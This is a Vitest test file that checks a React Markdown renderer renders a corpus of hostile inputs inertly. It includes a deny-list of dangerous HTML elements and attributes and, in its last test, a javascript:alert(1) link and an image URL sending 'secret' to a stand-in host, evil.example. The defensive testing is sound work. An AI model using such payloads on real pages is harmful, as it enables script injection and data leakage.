// @vitest-environment jsdom
import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { type HostileVector, hostileContent } from "../../testing/index.js";
import { Markdown } from "./Markdown.js";

const longLine = "x".repeat(200_000);
/** The public corpus, and a long line inside a code fence, which only Markdown highlights. */
const hostileMarkdown: readonly HostileVector[] = [
  ...hostileContent,
  { name: "200 000-character line in a code fence", value: `\`\`\`ts\n${longLine}\n\`\`\`` },
];

afterEach(() => {
  cleanup();
});

const forbiddenElements =
  "script, iframe, frame, frameset, object, embed, applet, style, link, meta, base, form, svg, math";
const linkProtocols = new Set(["http:", "https:", "mailto:"]);

function problems(root: HTMLElement, allowedImage: (src: string) => boolean): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll(forbiddenElements)) {
    // The code block's own icon: raw HTML is dropped, so model output cannot make one.
    if (element.matches(".tl-code-block__copy > svg[aria-hidden]")) continue;
    found.push(`<${element.localName}> element`);
  }
  for (const element of root.querySelectorAll("*")) {
    for (const attribute of element.getAttributeNames()) {
      if (/^on/i.test(attribute)) found.push(`${attribute} on <${element.localName}>`);
      if (["style", "srcdoc", "formaction", "xlink:href"].includes(attribute))
        found.push(`${attribute} on <${element.localName}>`);
    }
  }
  for (const link of root.querySelectorAll("a")) {
    const href = link.getAttribute("href");
    if (href === null) found.push("a link without href");
    else if (!linkProtocols.has(new URL(href).protocol)) found.push(`link to ${href}`);
    if (link.getAttribute("rel") !== "noopener noreferrer") found.push(`rel of ${href}`);
    if (link.getAttribute("target") !== "_blank") found.push(`target of ${href}`);
  }
  for (const image of root.querySelectorAll("img")) {
    const src = image.getAttribute("src") ?? "";
    if (!allowedImage(src)) found.push(`image from ${src}`);
  }
  return found;
}

describe("Markdown with hostile input", () => {
  it("has a corpus of at least 100 vectors with unique names", () => {
    expect(hostileMarkdown.length).toBeGreaterThanOrEqual(100);
    expect(new Set(hostileMarkdown.map((entry) => entry.name)).size).toBe(hostileMarkdown.length);
  });

  for (const { name, value: markdown } of hostileMarkdown) {
    it(`renders "${name}" inertly`, () => {
      const { container } = render(<Markdown text={markdown} />);
      expect(problems(container, () => false)).toEqual([]);
    });

    it(`renders "${name}" inertly while streaming`, () => {
      const { container } = render(<Markdown streaming text={markdown} />);
      expect(problems(container, () => false)).toEqual([]);
    });
  }

  it("loads only the images the policy allows, all corpus entries together", () => {
    const allowImage = (url: string) => url.startsWith("https://images.example/");
    const text = [
      ...hostileMarkdown.map((entry) => entry.value),
      "![ok](https://images.example/cat.png)",
    ].join("\n\n");
    const { container } = render(
      <Markdown text={text} allowImage={allowImage} maxLength={Infinity} />,
    );
    expect(problems(container, allowImage)).toEqual([]);
    expect(container.querySelectorAll("img")).toHaveLength(1);
  });

  it("keeps the text of blocked links and the address of blocked images visible", () => {
    const { container } = render(
      <Markdown
        text={"[pay\u200Bpal.com](javascript:alert(1)) ![](https://evil.example/?q=secret)"}
      />,
    );
    expect(container.textContent).toContain("pay\u200Bpal.com");
    expect(container.textContent).toContain("https://evil.example/?q=secret");
  });
});
